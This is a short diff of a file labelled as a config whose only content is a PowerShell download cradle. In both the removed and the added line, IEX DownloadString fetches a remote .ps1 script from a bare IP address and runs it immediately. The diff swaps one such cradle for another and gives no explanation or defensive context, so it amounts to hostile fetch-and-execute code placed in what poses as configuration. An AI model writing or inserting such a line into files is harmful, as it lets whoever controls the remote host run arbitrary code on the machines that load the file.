@@ -1,2 +1,2 @@
-# config 1270 v2
-IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')
+# config 4224 v2
+IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')
